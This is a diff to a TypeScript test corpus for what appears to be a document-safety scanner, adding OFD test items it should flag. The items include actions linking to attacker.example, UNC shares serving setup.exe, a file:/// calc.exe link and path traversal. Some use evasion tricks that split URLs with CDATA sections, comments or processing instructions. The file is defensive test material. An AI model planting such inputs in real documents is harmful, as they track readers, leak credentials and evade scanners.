@@ -64,6 +64,16 @@ import {
   ofdResources,
   ofdRoot,
   ofdSecondDocument,
+  ofdAsWritten,
+  ofdAttachmentsOfSecondDocument,
+  ofdAttachmentUnderAccentedPrefix,
+  ofdChinesePrefix,
+  ofdExtendData,
+  ofdLongUriTag,
+  ofdObjectAction,
+  ofdSchemaHint,
+  ofdSigned,
+  ofdVersion,
   UNC_SHARE,
 } from '../../fixtures/active-ofd.ts';
 import {
@@ -1706,6 +1716,178 @@ const ofdItems: CorpusItem[] = [
     bytes: () => ofdEncodedAction('UTF-7'),
     expect: 'OOXML_UNREADABLE',
   },
+  {
+    id: 'ofd-action-under-chinese-prefix',
+    category: 'OFD action',
+    declared: 'ofd',
+    // `文:` bound to the OFD namespace: a reader sees an Action and a URI.
+    bytes: ofdChinesePrefix,
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-attachment-under-accented-prefix',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: ofdAttachmentUnderAccentedPrefix,
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attachments-of-second-document',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: ofdAttachmentsOfSecondDocument,
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-uri-tag-over-64k',
+    category: 'OFD action',
+    declared: 'ofd',
+    // 256 KiB of attribute before the URI: the check meets the tag in pieces.
+    bytes: ofdLongUriTag,
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-click-link-to-share',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAction('CLICK', `<ofd:URI URI="${UNC_SHARE}\\setup.exe"/>`),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-click-link-to-local-file',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAnnotationAction('CLICK', '<ofd:URI URI=" file:///C:/Windows/System32/calc.exe"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-click-link-base-in-share',
+    category: 'OFD action',
+    declared: 'ofd',
+    // A relative URI resolved against a share.
+    bytes: () => ofdAction('CLICK', `<ofd:URI URI="setup.exe" Base="${UNC_SHARE}\\"/>`),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-uri-click-and-prefixed-open-event',
+    category: 'OFD action',
+    declared: 'ofd',
+    // A reader that takes the prefixed or the last Event runs it on opening.
+    bytes: () =>
+      ofdWith(
+        '<ofd:Actions><ofd:Action Event="CLICK" ofd:Event="DO"><ofd:URI URI="http://attacker.example/track"/></ofd:Action></ofd:Actions>',
+      ),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-object-action-uri-on-page-open',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdObjectAction('PO', '<ofd:URI URI="http://attacker.example/track"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-object-action-movie',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdObjectAction('CLICK', '<ofd:Movie ResourceID="9" Operator="Play"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-annotation-goto-attachment',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAnnotationAction('CLICK', '<ofd:GotoA AttachID="20"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-extend-data-url',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdExtendData('http://attacker.example/data.xml'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-version-file-list-url',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdVersion('Doc_0/Versions/Version_0.xml', 'http://attacker.example/Document.xml'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-version-not-xml',
+    category: 'OFD part the checks do not read',
+    declared: 'ofd',
+    bytes: () => ofdVersion('Doc_0/Versions/Version_0.dat', 'Document.xml'),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-font-file-percent-escaped-unc',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdFontFile('%5C%5Cattacker.example%5Cshare%5Cfont.ttf'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-seal-in-share',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdSigned(`${UNC_SHARE}\\Seal.esl`),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-signed-value-url',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdSigned('Seal.esl', 'http://attacker.example/SignedValue.dat'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-media-file-url-split-by-cdata',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    // A reader joins the text and the CDATA section: http://…
+    bytes: () => ofdMedia('ht<![CDATA[tp://attacker.example/track.png]]>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-font-file-climb-split-by-comment',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdFontFile('../../<!-- -->../../../../Windows/Fonts/font.ttf'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-font-file-unc-split-by-instruction',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () => ofdFontFile('/<?x?>/attacker.example/share/font.ttf'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-schema-hint-in-share',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    // A validating reader fetches the schema, handing the share's host the reviewer's credentials.
+    bytes: () => ofdSchemaHint(`http://www.ofdspec.org/2016 ${UNC_SHARE}\\ofd.xsd`),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-font-file-climb-split-by-element',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    // A reader joins the text on either side of the element: ../../../../../../Windows/…
+    bytes: () => ofdFontFile('../../<b/>../../../../Windows/Fonts/font.ttf'),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-attachments-location-after-element',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    // Document.xml's Attachments, its text after an element: a reader reads \\host\share\….
+    bytes: () => ofdWith(`<ofd:Attachments><b/>${UNC_SHARE}\\Attachments.xml</ofd:Attachments>`),
+    expect: 'OOXML_UNREADABLE',
+  },
 ];
 
 export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];
@@ -1913,4 +2095,35 @@ export const ACTIVE_GENUINE: readonly {
       ),
     warning: 'EXTERNAL_LINK',
   },
+  {
+    id: 'ofd-as-written',
+    declared: 'ofd',
+    bytes: () => ofdAsWritten({ prefix: true }),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'ofd-as-written-default-namespace',
+    declared: 'ofd',
+    bytes: () => ofdAsWritten({ prefix: false }),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'ofd-as-written-with-bom',
+    declared: 'ofd',
+    bytes: () => ofdAsWritten({ prefix: true, bom: true }),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'ofd-as-written-gbk-default-namespace',
+    declared: 'ofd',
+    bytes: () => ofdAsWritten({ prefix: false, gbk: true }),
+    warning: 'EXTERNAL_LINK',
+  },
+  { id: 'ofd-signed', declared: 'ofd', bytes: () => ofdSigned() },
+  {
+    id: 'ofd-schema-hint-web',
+    declared: 'ofd',
+    bytes: () => ofdSchemaHint('http://www.ofdspec.org/2016 http://www.ofdspec.org/2016/OFD.xsd'),
+  },
+  { id: 'ofd-version', declared: 'ofd', bytes: () => ofdVersion('Doc_0/Versions/Version_0.xml', 'Document.xml') },
 ];
